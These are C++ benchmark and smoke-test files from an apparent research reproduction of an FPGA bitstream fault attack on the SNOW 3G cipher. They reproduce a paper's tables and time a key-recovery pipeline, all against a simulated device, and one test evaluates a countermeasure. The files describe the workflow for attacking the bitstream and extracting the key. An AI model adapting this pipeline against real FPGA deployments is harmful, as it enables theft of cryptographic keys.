  check(hedged.lost_probes == 0, "hedged fleet: no probes lost");
  std::printf("fleet smoke: %s (%u/%u boards alive, %zu migration runs, "
              "%zu hedged wins)\n",
              ok ? "PASS" : "FAIL", fleet.alive, fleet.boards,
              fleet.res.migration_runs, hedged.hedged_wins);
  return ok ? 0 : 1;
}

/// Fast gate for ctest (bench.cracker_smoke): the cracker must uniquely
/// identify the 32 true sources on the plain protected victim in adaptive
/// probes exponentially below the static C(n-32,32) bound, and the
/// response-equalized countermeasure must force a proof of ambiguity at a
/// strictly higher probe cost.  No JSON is written.
int run_cracker_smoke() {
  const obs::Mode saved = obs::mode();
  obs::set_mode(obs::Mode::kOff);
  const CrackRun crack = run_crack(/*equalized=*/false);
  const CrackRun crack_eq = run_crack(/*equalized=*/true);
  obs::set_mode(saved);
  bool ok = true;
  auto check = [&ok](bool cond, const char* what) {
    std::printf("%-48s %s\n", what, cond ? "ok" : "FAIL");
    ok = ok && cond;
  };
  check(crack.res.success && crack.res.unique && !crack.res.proven_ambiguous,
        "protected: unique identification of all 32 sources");
  check(crack.res.adaptive_probes > 0 &&
            crack.res.log2_static_bound -
                    std::log2(static_cast<double>(crack.res.adaptive_probes)) >
                80,
        "adaptive probes exponentially below the static bound");
  check(crack_eq.res.success && crack_eq.res.proven_ambiguous && !crack_eq.res.unique,
        "equalized: cracker proves residual ambiguity");
  check(crack_eq.res.adaptive_probes > crack.res.adaptive_probes,
        "equalized countermeasure costs strictly more probes");
  std::printf("cracker smoke: %s (%zu probes vs 2^%.1f static; equalized %zu probes, "
              "2^%.1f residual)\n",
              ok ? "PASS" : "FAIL", crack.res.adaptive_probes, crack.res.log2_static_bound,
              crack_eq.res.adaptive_probes, crack_eq.res.log2_hypotheses_final);
  return ok ? 0 : 1;
}

void BM_FullAttack(benchmark::State& state) {
  const fpga::System& sys = system_instance();
  for (auto _ : state) {
    DeviceOracle oracle(sys, kIv, nullptr, /*batch_width=*/1);
    PipelineConfig cfg;
    cfg.iv = kIv;
    Attack attack(oracle, sys.golden.bytes, cfg);
    auto res = attack.execute();
    benchmark::DoNotOptimize(res);
    if (!res.success) state.SkipWithError("attack failed");
  }
}
BENCHMARK(BM_FullAttack)->Unit(benchmark::kSecond)->Iterations(1);

void BM_FullAttackCached(benchmark::State& state) {
  const fpga::System& sys = system_instance();
  for (auto _ : state) {
    DeviceOracle oracle(sys, kIv, &runtime::ThreadPool::global());
    runtime::ProbeCache cache;
    PipelineConfig cfg;
    cfg.iv = kIv;
    cfg.cache = &cache;
    cfg.find.pool = &runtime::ThreadPool::global();
    Attack attack(oracle, sys.golden.bytes, cfg);
    auto res = attack.execute();
    benchmark::DoNotOptimize(res);
    if (!res.success) state.SkipWithError("attack failed");
  }
}
BENCHMARK(BM_FullAttackCached)->Unit(benchmark::kSecond)->Iterations(1);

void BM_SystemBuild(benchmark::State& state) {
  for (auto _ : state) {
    auto sys = fpga::build_system();
    benchmark::DoNotOptimize(sys);
  }
}
BENCHMARK(BM_SystemBuild)->Unit(benchmark::kMillisecond);

}  // namespace

int main(int argc, char** argv) {
  // Strip our own flags before google/benchmark sees (and rejects) them.
  bool noisy_smoke = false;
  bool fleet_smoke = false;
  bool cracker_smoke = false;
  int kept = 1;
  for (int i = 1; i < argc; ++i) {
    const bool has_next = i + 1 < argc;
    if (std::strcmp(argv[i], "--noisy-smoke") == 0) {
      noisy_smoke = true;
    } else if (std::strcmp(argv[i], "--fleet-smoke") == 0) {
      fleet_smoke = true;
    } else if (std::strcmp(argv[i], "--cracker-smoke") == 0) {
      cracker_smoke = true;
    } else if (std::strcmp(argv[i], "--trace-out") == 0 && has_next) {
      g_trace_out = argv[++i];
    } else if (std::strcmp(argv[i], "--metrics-out") == 0 && has_next) {
      g_metrics_out = argv[++i];
    } else if (std::strcmp(argv[i], "--simd") == 0 && has_next) {
      const char* name = argv[++i];
      const auto backend = sbm::simd::parse_backend(name);
      if (!backend) {
        std::fprintf(stderr, "unknown SIMD backend '%s' (want scalar|avx2|avx512)\n", name);
        return 2;
      }
      const sbm::simd::Backend actual = sbm::simd::set_active_backend(*backend);
      if (actual != *backend) {
        std::fprintf(stderr, "note: %s unavailable, using %s\n", name,
                     sbm::simd::backend_name(actual));
      }
    } else {
      argv[kept++] = argv[i];
    }
  }
  argc = kept;
  if (noisy_smoke) return run_noisy_smoke();
  if (fleet_smoke) return run_fleet_smoke();
  if (cracker_smoke) return run_cracker_smoke();
  print_cost_breakdown();
  benchmark::Initialize(&argc, argv);
  benchmark::RunSpecifiedBenchmarks();
  return 0;
}
