// End-to-end cost of the full Section VI attack: wall-clock and oracle
// reconfigurations per phase.  The paper's cost unit is a board reflash;
// ours is a simulated device load, so only the *counts* carry over.
//
// Besides the human-readable breakdown, this bench writes
// BENCH_attack_e2e.json (wall time, true oracle runs, cache hits, per-phase
// runs) so the performance trajectory is tracked across PRs.
#include <benchmark/benchmark.h>

#include <chrono>
#include <cstdio>
#include <cstring>
#include <string>

#include "attack/pipeline.h"
#include "common/json.h"
#include "faultsim/faulty_oracle.h"
#include "faultsim/noise.h"
#include "fpga/system.h"
#include "obs/metrics.h"
#include "obs/obs.h"
#include "obs/trace.h"
#include "runtime/probe_cache.h"
#include "runtime/thread_pool.h"
#include "simd/backend.h"

namespace {

using namespace sbm;
using namespace sbm::attack;

constexpr snow3g::Iv kIv = {0xea024714, 0xad5c4d84, 0xdf1f9b25, 0x1c0bf45f};

// Set from --trace-out / --metrics-out before benchmark::Initialize sees argv.
std::string g_trace_out;
std::string g_metrics_out;

const fpga::System& system_instance() {
  static const fpga::System sys = fpga::build_system();
  return sys;
}

AttackResult run_once(bool cached, runtime::ThreadPool* pool, unsigned batch_width,
                      double* wall_seconds) {
  const fpga::System& sys = system_instance();
  DeviceOracle oracle(sys, kIv, pool, batch_width);
  runtime::ProbeCache cache;
  PipelineConfig cfg;
  cfg.iv = kIv;
  if (cached) cfg.cache = &cache;
  cfg.find.pool = pool;
  const auto start = std::chrono::steady_clock::now();
  Attack attack(oracle, sys.golden.bytes, cfg);
  AttackResult res = attack.execute();
  *wall_seconds =
      std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
  return res;
}

/// The fault-tolerant configuration: mild() noise on the oracle, 3-read
/// agreement voting on every probe, cache + 64-lane batches on one thread.
AttackResult run_noisy(double* wall_seconds) {
  const fpga::System& sys = system_instance();
  DeviceOracle device(sys, kIv, nullptr, 64);
  faultsim::FaultyOracle oracle(device, faultsim::NoiseProfile::mild());
  runtime::ProbeCache cache;
  PipelineConfig cfg;
  cfg.iv = kIv;
  cfg.cache = &cache;
  cfg.retry = runtime::RetryPolicy::voting(3);
  const auto start = std::chrono::steady_clock::now();
  Attack attack(oracle, sys.golden.bytes, cfg);
  AttackResult res = attack.execute();
  *wall_seconds =
      std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
  return res;
}

void print_cost_breakdown() {
  // The standard entries measure the attack itself: obs is forced off so the
  // committed baseline captures the disabled-mode cost that
  // check_bench_regression.py holds to < 3% drift.
  const obs::Mode saved_mode = obs::mode();
  obs::set_mode(obs::Mode::kOff);

  // Plain single-threaded uncached scalar run: the paper-faithful cost
  // metric (batch width 1 = one reconfiguration per probe, no bit-slicing)...
  double wall_plain = 0;
  const AttackResult plain = run_once(false, nullptr, 1, &wall_plain);
  std::printf("=== End-to-end attack cost ===\n");
  std::printf("success: %s, key confirmed: %s\n", plain.success ? "yes" : "no",
              plain.key_confirmed ? "yes" : "no");
  std::printf("oracle reconfigurations: %zu total\n", plain.oracle_runs);
  for (const auto& [phase, runs] : plain.phase_runs) {
    std::printf("  %-10s %6zu\n", phase.c_str(), runs);
  }
  std::printf("verified LUT rewrites: %zu z-path + %zu feedback + %zu MUX (beta)\n",
              plain.lut1.size(), plain.feedback.size(), plain.mux_patches);

  // ...the runtime configuration on one thread (probe cache + SIMD-wide
  // bit-sliced batches under the active backend, no pool)...
  const simd::Backend active = simd::active_backend();
  double wall_runtime_1t = 0;
  const AttackResult batched_1t =
      run_once(true, nullptr, simd::kMaxLanes, &wall_runtime_1t);
  // ...and the full production configuration (cache + batches + pool).
  double wall_runtime = 0;
  const AttackResult cached =
      run_once(true, &runtime::ThreadPool::global(), simd::kMaxLanes, &wall_runtime);
  std::printf("with probe cache + %s batches: %zu true runs + %zu cache hits\n",
              simd::backend_name(active), cached.oracle_runs, cached.cache_hits);
  std::printf("wall: %.2fs plain, %.2fs batched 1 thread, %.2fs batched %u threads\n",
              wall_plain, wall_runtime_1t, wall_runtime,
              runtime::ThreadPool::global().concurrency());
  bool identical = plain.success && cached.success &&
                   plain.faulty_keystream == cached.faulty_keystream &&
                   plain.secrets.key == cached.secrets.key &&
                   batched_1t.faulty_keystream == cached.faulty_keystream &&
                   batched_1t.oracle_runs == cached.oracle_runs;

  // The runtime_1t configuration once per usable SIMD backend: the wall
  // clocks are the per-backend perf record, and results_identical covers the
  // whole set — any backend drifting from the scalar reference is a bug, not
  // a perf note.
  struct BackendRun {
    simd::Backend backend;
    double wall = 0;
    AttackResult res;
  };
  std::vector<BackendRun> backend_runs;
  for (const simd::Backend b :
       {simd::Backend::kScalar, simd::Backend::kAvx2, simd::Backend::kAvx512}) {
    if (!simd::compiled(b) || !simd::host_supports(b)) continue;
    simd::ScopedBackend scoped(b);
    BackendRun run{b, 0, {}};
    run.res = run_once(true, nullptr, simd::kMaxLanes, &run.wall);
    std::printf("backend %-7s: %.2fs batched 1 thread, %zu true runs + %zu cache hits\n",
                simd::backend_name(b), run.wall, run.res.oracle_runs, run.res.cache_hits);
    identical = identical && run.res.success &&
                run.res.faulty_keystream == plain.faulty_keystream &&
                run.res.secrets.key == plain.secrets.key &&
                run.res.oracle_runs == batched_1t.oracle_runs &&
                run.res.cache_hits == batched_1t.cache_hits &&
                run.res.probe_calls == batched_1t.probe_calls;
    backend_runs.push_back(std::move(run));
  }
  std::printf("scalar/batched results identical: %s\n", identical ? "yes" : "NO (BUG)");

  // The same attack through a mild()-noisy oracle with voting probes: the
  // paper metric must not move, only the separately-reported overhead.
  double wall_noisy = 0;
  const AttackResult noisy = run_noisy(&wall_noisy);
  std::printf("noisy (mild, 3-vote): success %s, %zu logical runs + %zu retries + %zu votes "
              "= %zu physical (%.2fs)\n\n",
              noisy.success ? "yes" : "NO (BUG)", noisy.oracle_runs, noisy.retry_runs,
              noisy.vote_runs, noisy.physical_runs, wall_noisy);

  // The runtime_1t configuration again with the full obs layer on: the delta
  // against runtime_1t is the enabled-mode overhead, and the identical
  // oracle_runs count demonstrates observability does not perturb the attack.
  obs::set_mode(obs::Mode::kAll);
  double wall_obs = 0;
  const AttackResult observed = run_once(true, nullptr, 64, &wall_obs);
  const size_t trace_events = obs::Tracer::global().event_count();
  std::printf("obs on (trace+metrics): %zu true runs, %zu trace events (%.2fs)\n\n",
              observed.oracle_runs, trace_events, wall_obs);
  if (!g_trace_out.empty()) {
    if (obs::Tracer::global().write(g_trace_out)) {
      std::printf("wrote %s\n", g_trace_out.c_str());
    } else {
      std::fprintf(stderr, "cannot write %s\n", g_trace_out.c_str());
    }
  }
  if (!g_metrics_out.empty()) {
    const std::string snapshot = obs::MetricsRegistry::global().snapshot().to_json();
    if (std::FILE* f = std::fopen(g_metrics_out.c_str(), "w")) {
      std::fwrite(snapshot.data(), 1, snapshot.size(), f);
      std::fclose(f);
      std::printf("wrote %s\n", g_metrics_out.c_str());
    } else {
      std::fprintf(stderr, "cannot write %s\n", g_metrics_out.c_str());
    }
  }
  obs::set_mode(saved_mode);

  JsonWriter w;
  w.begin_object();
  w.field("bench", "attack_e2e");
  w.field("threads", u64{runtime::ThreadPool::global().concurrency()});
  w.field("backend", simd::backend_name(active));
  w.field("results_identical", identical);
  auto entry = [&w](const std::string& name, const AttackResult& r, double wall,
                    const char* backend) {
    w.key(name).begin_object();
    w.field("wall_seconds", wall)
        .field("oracle_runs", r.oracle_runs)
        .field("cache_hits", r.cache_hits)
        .field("probe_calls", r.probe_calls)
        .field("backend", backend);
    w.end_object();
  };
  entry("plain", plain, wall_plain, "scalar");  // width 1: no bit-slicing at all
  entry("runtime_1t", batched_1t, wall_runtime_1t, simd::backend_name(active));
  entry("runtime", cached, wall_runtime, simd::backend_name(active));
  for (const BackendRun& run : backend_runs) {
    entry(std::string("runtime_1t_") + simd::backend_name(run.backend), run.res, run.wall,
          simd::backend_name(run.backend));
  }
  w.key("obs").begin_object();
  w.field("wall_seconds", wall_obs)
      .field("oracle_runs", observed.oracle_runs)
      .field("cache_hits", observed.cache_hits)
      .field("probe_calls", observed.probe_calls)
      .field("trace_events", u64{trace_events});
  w.end_object();
  w.key("noisy").begin_object();
  w.field("wall_seconds", wall_noisy)
      .field("success", noisy.success)
      .field("oracle_runs", noisy.oracle_runs)
      .field("cache_hits", noisy.cache_hits)
      .field("probe_calls", noisy.probe_calls)
      .field("physical_runs", noisy.physical_runs)
      .field("retry_runs", noisy.retry_runs)
      .field("vote_runs", noisy.vote_runs)
      .field("corruption_detections", noisy.corruption_detections);
  w.end_object();
  w.key("phase_oracle_runs").begin_object();
  for (const auto& [phase, runs] : cached.phase_runs) w.field(phase, runs);
  w.end_object();
  w.end_object();
  if (std::FILE* f = std::fopen("BENCH_attack_e2e.json", "w")) {
    std::fwrite(w.str().data(), 1, w.str().size(), f);
    std::fclose(f);
    std::printf("wrote BENCH_attack_e2e.json\n\n");
  }
}

void BM_FullAttack(benchmark::State& state) {
  const fpga::System& sys = system_instance();
  for (auto _ : state) {
    DeviceOracle oracle(sys, kIv, nullptr, /*batch_width=*/1);
    PipelineConfig cfg;
    cfg.iv = kIv;
    Attack attack(oracle, sys.golden.bytes, cfg);
    auto res = attack.execute();
    benchmark::DoNotOptimize(res);
    if (!res.success) state.SkipWithError("attack failed");
  }
}
BENCHMARK(BM_FullAttack)->Unit(benchmark::kSecond)->Iterations(1);

void BM_FullAttackCached(benchmark::State& state) {
  const fpga::System& sys = system_instance();
  for (auto _ : state) {
    DeviceOracle oracle(sys, kIv, &runtime::ThreadPool::global());
    runtime::ProbeCache cache;
    PipelineConfig cfg;
    cfg.iv = kIv;
    cfg.cache = &cache;
    cfg.find.pool = &runtime::ThreadPool::global();
    Attack attack(oracle, sys.golden.bytes, cfg);
    auto res = attack.execute();
    benchmark::DoNotOptimize(res);
    if (!res.success) state.SkipWithError("attack failed");
  }
}
BENCHMARK(BM_FullAttackCached)->Unit(benchmark::kSecond)->Iterations(1);

void BM_SystemBuild(benchmark::State& state) {
  for (auto _ : state) {
    auto sys = fpga::build_system();
    benchmark::DoNotOptimize(sys);
  }
}
BENCHMARK(BM_SystemBuild)->Unit(benchmark::kMillisecond);

}  // namespace

int main(int argc, char** argv) {
  // Strip our own flags before google/benchmark sees (and rejects) them.
  int kept = 1;
  for (int i = 1; i < argc; ++i) {
    const bool has_next = i + 1 < argc;
    if (std::strcmp(argv[i], "--trace-out") == 0 && has_next) {
      g_trace_out = argv[++i];
    } else if (std::strcmp(argv[i], "--metrics-out") == 0 && has_next) {
      g_metrics_out = argv[++i];
    } else if (std::strcmp(argv[i], "--simd") == 0 && has_next) {
      const char* name = argv[++i];
      const auto backend = sbm::simd::parse_backend(name);
      if (!backend) {
        std::fprintf(stderr, "unknown SIMD backend '%s' (want scalar|avx2|avx512)\n", name);
        return 2;
      }
      const sbm::simd::Backend actual = sbm::simd::set_active_backend(*backend);
      if (actual != *backend) {
        std::fprintf(stderr, "note: %s unavailable, using %s\n", name,
                     sbm::simd::backend_name(actual));
      }
    } else {
      argv[kept++] = argv[i];
    }
  }
  argc = kept;
  print_cost_breakdown();
  benchmark::Initialize(&argc, argv);
  benchmark::RunSpecifiedBenchmarks();
  return 0;
}
