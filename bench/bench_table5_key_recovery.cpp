// Table V — the recovered initial LFSR state S^0 and the extracted key.
//
// Reverses the LFSR 33 steps from the Table IV keystream and prints the
// recovered state next to the paper's, then benchmarks the reversal and the
// whole recovery pipeline.
#include <benchmark/benchmark.h>

#include <chrono>
#include <cstdio>

#include "common/hex.h"
#include "common/json.h"
#include "common/rng.h"
#include "snow3g/reverse.h"
#include "snow3g/snow3g.h"

namespace {

using namespace sbm;
using namespace sbm::snow3g;

constexpr Key kPaperKey = {0x2bd6459f, 0x82c5b300, 0x952c4910, 0x4881ff48};
constexpr Iv kPaperIv = {0xea024714, 0xad5c4d84, 0xdf1f9b25, 0x1c0bf45f};

constexpr const char* kPaperTable5[16] = {
    "d429ba60", "7d3a4cff", "6ad3b6ef", "b77e00b7", "2bd6459f", "82c5b300",
    "952c4910", "4881ff48", "d429ba60", "6131b8a0", "b5cc2dca", "b77e00b7",
    "868a081b", "82c5b300", "952c4910", "a283b85c"};

/// Reproduction status + a timed recovery measurement, written to
/// BENCH_table5_key_recovery.json for cross-PR tracking.
void write_bench_json() {
  Snow3g cipher(kPaperKey, kPaperIv, FaultConfig::full_attack());
  const std::vector<u32> z = cipher.keystream(16);
  const LfsrState s0 = state_from_faulty_keystream(z);
  bool state_ok = true;
  for (int i = 0; i < 16; ++i) {
    state_ok = state_ok && hex32(s0[static_cast<size_t>(i)]) == kPaperTable5[i];
  }
  const auto secrets = extract_key(s0);
  constexpr int kIters = 10000;
  const auto start = std::chrono::steady_clock::now();
  for (int i = 0; i < kIters; ++i) {
    auto r = recover_from_keystream(z);
    benchmark::DoNotOptimize(r);
  }
  const double wall =
      std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
  JsonWriter w;
  w.begin_object();
  w.field("bench", "table5_key_recovery")
      .field("state_reproduced", state_ok)
      .field("key_match", secrets && secrets->key == kPaperKey)
      .field("recoveries_per_second", kIters / wall)
      .field("recovery_microseconds", wall / kIters * 1e6);
  w.end_object();
  if (std::FILE* f = std::fopen("BENCH_table5_key_recovery.json", "w")) {
    std::fwrite(w.str().data(), 1, w.str().size(), f);
    std::fclose(f);
    std::printf("wrote BENCH_table5_key_recovery.json\n\n");
  }
}

void print_table5_reproduction() {
  std::printf("=== Table V: recovered initial LFSR state S^0 ===\n");
  Snow3g cipher(kPaperKey, kPaperIv, FaultConfig::full_attack());
  const std::vector<u32> z = cipher.keystream(16);
  const LfsrState s0 = state_from_faulty_keystream(z);
  std::printf("%3s %10s %10s\n", "i", "paper", "measured");
  bool all_ok = true;
  for (int i = 0; i < 16; ++i) {
    const std::string v = hex32(s0[static_cast<size_t>(i)]);
    const bool ok = v == kPaperTable5[i];
    all_ok = all_ok && ok;
    std::printf("%3d %10s %10s %s\n", i, kPaperTable5[i], v.c_str(), ok ? "" : " MISMATCH");
  }
  const auto secrets = extract_key(s0);
  std::printf("state: %s\n", all_ok ? "REPRODUCED EXACTLY" : "MISMATCH");
  if (secrets) {
    std::printf("recovered key: %s %s %s %s  (paper: 2bd6459f 82c5b300 952c4910 4881ff48)\n",
                hex32(secrets->key[0]).c_str(), hex32(secrets->key[1]).c_str(),
                hex32(secrets->key[2]).c_str(), hex32(secrets->key[3]).c_str());
    std::printf("recovered IV : %s %s %s %s\n", hex32(secrets->iv[0]).c_str(),
                hex32(secrets->iv[1]).c_str(), hex32(secrets->iv[2]).c_str(),
                hex32(secrets->iv[3]).c_str());
    std::printf("key match: %s\n\n", secrets->key == kPaperKey ? "YES" : "NO");
  } else {
    std::printf("key extraction FAILED (gamma redundancy violated)\n\n");
  }
}

void BM_Reverse33Steps(benchmark::State& state) {
  Snow3g cipher(kPaperKey, kPaperIv, FaultConfig::full_attack());
  const std::vector<u32> z = cipher.keystream(16);
  for (auto _ : state) {
    auto s0 = state_from_faulty_keystream(z);
    benchmark::DoNotOptimize(s0);
  }
}
BENCHMARK(BM_Reverse33Steps);

void BM_FullRecoveryPipeline(benchmark::State& state) {
  Rng rng(1);
  for (auto _ : state) {
    state.PauseTiming();
    const Key k = {rng.next_u32(), rng.next_u32(), rng.next_u32(), rng.next_u32()};
    const Iv iv = {rng.next_u32(), rng.next_u32(), rng.next_u32(), rng.next_u32()};
    Snow3g cipher(k, iv, FaultConfig::full_attack());
    const std::vector<u32> z = cipher.keystream(16);
    state.ResumeTiming();
    auto secrets = recover_from_keystream(z);
    benchmark::DoNotOptimize(secrets);
  }
}
BENCHMARK(BM_FullRecoveryPipeline);

}  // namespace

int main(int argc, char** argv) {
  print_table5_reproduction();
  write_bench_json();
  benchmark::Initialize(&argc, argv);
  benchmark::RunSpecifiedBenchmarks();
  return 0;
}
