// Table II — number of target-LUT candidates in the unprotected bitstream.
//
// Regenerates the paper's table: for each candidate Boolean function f1..f21
// the number n of FINDLUT matches, side by side with the paper's counts.
// Absolute numbers differ (our mapper is not Vivado and our control encoding
// differs), but the structure must hold: one z-path candidate family carries
// the 32 true LUT1 positions among extra false positives, and the verified
// cover population totals 32 per path.  Also runs the node-reuse ablation
// called out in DESIGN.md.
#include <benchmark/benchmark.h>

#include <cstdio>
#include <set>

#include "attack/scan.h"
#include "fpga/system.h"

namespace {

using namespace sbm;
using namespace sbm::attack;

const fpga::System& system_instance() {
  static const fpga::System sys = fpga::build_system();
  return sys;
}

void print_table2_reproduction() {
  const fpga::System& sys = system_instance();
  const auto truth = sys.target_luts();
  std::set<size_t> truth_positions;
  for (const auto& t : truth) truth_positions.insert(t.byte_index);

  // The paper's n column for f1..f21.
  const int paper_n[21] = {12, 81, 52, 6, 1, 12, 1, 24, 3, 0, 3, 0, 0, 0, 0, 0, 0, 0, 8, 0, 2};

  std::printf("=== Table II: target-LUT candidates in the unprotected bitstream ===\n");
  std::printf("%-6s %-36s %9s %9s %s\n", "cand", "function", "paper n", "ours n", "true hits");
  const auto counts = scan_family(sys.golden.bytes, logic::table2_family());
  for (size_t i = 0; i < counts.size(); ++i) {
    size_t true_hits = 0;
    for (const auto& m : counts[i].matches) true_hits += truth_positions.count(m.byte_index);
    std::printf("%-6s %-36s %9d %9zu %zu\n", counts[i].candidate.name.c_str(),
                counts[i].candidate.formula.c_str(), paper_n[i], counts[i].count(), true_hits);
  }

  std::printf("\nextended family (our control encoding), non-zero entries:\n");
  for (const auto& fc : scan_family(sys.golden.bytes, attack_family())) {
    if (fc.count() == 0) continue;
    bool in_table2 = false;
    for (const auto& t2 : logic::table2_family()) in_table2 |= t2.function == fc.candidate.function;
    if (in_table2) continue;
    size_t true_hits = 0;
    for (const auto& m : fc.matches) true_hits += truth_positions.count(m.byte_index);
    std::printf("%-10s %-32s n=%zu true=%zu\n", fc.candidate.name.c_str(),
                fc.candidate.formula.c_str(), fc.count(), true_hits);
  }

  // Ablation: node reuse off.
  fpga::SystemOptions no_reuse;
  no_reuse.mapper.allow_node_reuse = false;
  const fpga::System ablated = fpga::build_system(no_reuse);
  size_t n_with = 0, n_without = 0;
  for (const auto& fc : scan_family(sys.golden.bytes, attack_family())) n_with += fc.count();
  for (const auto& fc : scan_family(ablated.golden.bytes, attack_family())) {
    n_without += fc.count();
  }
  std::printf("\nablation (Section II-B node reuse): total family matches with reuse = %zu, "
              "without = %zu\n\n",
              n_with, n_without);
}

void BM_ScanTable2Family(benchmark::State& state) {
  const fpga::System& sys = system_instance();
  for (auto _ : state) {
    auto counts = scan_family(sys.golden.bytes, logic::table2_family());
    benchmark::DoNotOptimize(counts);
  }
  state.SetBytesProcessed(static_cast<int64_t>(state.iterations()) *
                          static_cast<int64_t>(sys.golden.bytes.size()) * 21);
}
BENCHMARK(BM_ScanTable2Family)->Unit(benchmark::kMillisecond);

}  // namespace

int main(int argc, char** argv) {
  print_table2_reproduction();
  benchmark::Initialize(&argc, argv);
  benchmark::RunSpecifiedBenchmarks();
  return 0;
}
