// Table IV — keystream with the FSM output stuck to 0 during both
// initialization and keystream generation, for the paper's (recovered)
// key/IV.  Exactly reproducible.
#include <benchmark/benchmark.h>

#include <cstdio>

#include "common/hex.h"
#include "snow3g/snow3g.h"

namespace {

using namespace sbm;
using namespace sbm::snow3g;

constexpr Key kPaperKey = {0x2bd6459f, 0x82c5b300, 0x952c4910, 0x4881ff48};
constexpr Iv kPaperIv = {0xea024714, 0xad5c4d84, 0xdf1f9b25, 0x1c0bf45f};

constexpr const char* kPaperTable4[16] = {
    "3ffe4851", "35d1c393", "5914acef", "e98446cc", "689782d9", "8abdb7fc",
    "a11b0377", "5a2dd294", "5deb29fa", "c2c6009a", "a82ee62f", "925268ed",
    "d04e2c33", "3890311b", "e8d27b84", "a70aeeaa"};

void print_table4_reproduction() {
  std::printf("=== Table IV: faulty keystream (full alpha fault, v = 0) ===\n");
  std::printf("%3s %10s %10s\n", "t", "paper", "measured");
  Snow3g cipher(kPaperKey, kPaperIv, FaultConfig::full_attack());
  bool all_ok = true;
  for (int t = 0; t < 16; ++t) {
    const std::string z = hex32(cipher.next());
    const bool ok = z == kPaperTable4[t];
    all_ok = all_ok && ok;
    std::printf("%3d %10s %10s %s\n", t + 1, kPaperTable4[t], z.c_str(),
                ok ? "" : " MISMATCH");
  }
  std::printf("overall: %s\n\n", all_ok ? "REPRODUCED EXACTLY" : "MISMATCH");
}

void BM_FaultyKeystream16(benchmark::State& state) {
  for (auto _ : state) {
    Snow3g cipher(kPaperKey, kPaperIv, FaultConfig::full_attack());
    auto z = cipher.keystream(16);
    benchmark::DoNotOptimize(z);
  }
}
BENCHMARK(BM_FaultyKeystream16);

void BM_InitializationOnly(benchmark::State& state) {
  for (auto _ : state) {
    Snow3g cipher(kPaperKey, kPaperIv);
    benchmark::DoNotOptimize(cipher.lfsr());
  }
}
BENCHMARK(BM_InitializationOnly);

}  // namespace

int main(int argc, char** argv) {
  print_table4_reproduction();
  benchmark::Initialize(&argc, argv);
  benchmark::RunSpecifiedBenchmarks();
  return 0;
}
