// Fig. 5 — covers of the target node v: the paper finds 32 LUT1 (z_t path),
// 24 LUT2 and 8 LUT3 (feedback path, split by the alpha byte shift).
//
// We print the measured cover census from the design ground truth: how many
// LUTs contain v per path, and how the feedback covers split into shape
// classes (our analog of the LUT2/LUT3 split).
#include <benchmark/benchmark.h>

#include <cstdio>
#include <map>
#include <set>

#include "fpga/system.h"

namespace {

using namespace sbm;

const fpga::System& system_instance() {
  static const fpga::System sys = fpga::build_system();
  return sys;
}

void print_fig5_reproduction() {
  const fpga::System& sys = system_instance();
  const auto truth = sys.target_luts();
  std::set<size_t> z_luts, fb_luts;
  std::map<std::string, int> fb_shapes;
  for (const auto& t : truth) {
    if (t.on_z_path) {
      z_luts.insert(t.lut_index);
    } else if (fb_luts.insert(t.lut_index).second) {
      fb_shapes[sys.mapped.luts[t.lut_index].function.to_string()]++;
    }
  }
  std::printf("=== Fig. 5: covers of the target node v ===\n");
  std::printf("  z_t path  (paper: 32 x LUT1): %zu LUTs containing v\n", z_luts.size());
  std::printf("  feedback  (paper: 24 x LUT2 + 8 x LUT3): %zu LUTs, by shape class:\n",
              fb_luts.size());
  for (const auto& [shape, count] : fb_shapes) {
    std::printf("    %2d x table %s\n", count, shape.c_str());
  }
  std::printf("  (the shape split mirrors the paper's LUT2/LUT3 heterogeneity caused by\n");
  std::printf("   the alpha byte shift: bits 0..7 / 8..23 / 24..31 map differently)\n\n");
}

void BM_TargetLutCensus(benchmark::State& state) {
  const fpga::System& sys = system_instance();
  for (auto _ : state) {
    auto truth = sys.target_luts();
    benchmark::DoNotOptimize(truth);
  }
}
BENCHMARK(BM_TargetLutCensus)->Unit(benchmark::kMillisecond);

}  // namespace

int main(int argc, char** argv) {
  print_fig5_reproduction();
  benchmark::Initialize(&argc, argv);
  benchmark::RunSpecifiedBenchmarks();
  return 0;
}
