// Table I — the 7-series LUT bitstream format (xi permutation).
//
// Prints a verification of the transcribed mapping and benchmarks the
// pack/unpack primitives that FINDLUT leans on.
#include <benchmark/benchmark.h>

#include <cstdio>

#include "bitstream/lut_coding.h"
#include "common/rng.h"

namespace {

using namespace sbm;
using namespace sbm::bitstream;

void print_table1_reproduction() {
  std::printf("=== Table I: Xilinx 7-series LUT bitstream format ===\n");
  const auto& xi = xi_table();
  // The paper's first and last rows, F[i] -> B[j].
  struct Row {
    unsigned f;
    unsigned paper_b;
  };
  const Row rows[] = {{0, 63}, {1, 47}, {7, 44},  {8, 15},  {31, 24},
                      {32, 55}, {40, 7}, {55, 32}, {62, 0},  {63, 16}};
  bool all_ok = true;
  for (const Row& r : rows) {
    const bool ok = xi[r.f] == r.paper_b;
    all_ok = all_ok && ok;
    std::printf("  F[%2u] -> B[%2u]   (paper: B[%2u])  %s\n", r.f, xi[r.f], r.paper_b,
                ok ? "OK" : "MISMATCH");
  }
  // Bijectivity check over the full table.
  u64 seen = 0;
  for (const u8 b : xi) seen |= u64{1} << b;
  std::printf("  bijective over 64 positions: %s\n", seen == ~u64{0} ? "yes" : "NO");
  std::printf("  sub-vector orders: SLICEL = B1,B2,B3,B4  SLICEM = B4,B3,B1,B2\n");
  std::printf("  overall: %s\n\n", all_ok && seen == ~u64{0} ? "REPRODUCED" : "MISMATCH");
}

void BM_XiPermute(benchmark::State& state) {
  Rng rng(1);
  u64 v = rng.next_u64();
  for (auto _ : state) {
    v = xi_permute(v);
    benchmark::DoNotOptimize(v);
  }
}
BENCHMARK(BM_XiPermute);

void BM_EncodeLut(benchmark::State& state) {
  Rng rng(2);
  const u64 init = rng.next_u64();
  const auto order = device_chunk_orders()[0];
  for (auto _ : state) {
    auto chunks = encode_lut(init, order);
    benchmark::DoNotOptimize(chunks);
  }
}
BENCHMARK(BM_EncodeLut);

void BM_DecodeLut(benchmark::State& state) {
  Rng rng(3);
  const auto order = device_chunk_orders()[1];
  const auto chunks = encode_lut(rng.next_u64(), order);
  for (auto _ : state) {
    u64 init = decode_lut(chunks, order);
    benchmark::DoNotOptimize(init);
  }
}
BENCHMARK(BM_DecodeLut);

}  // namespace

int main(int argc, char** argv) {
  print_table1_reproduction();
  benchmark::Initialize(&argc, argv);
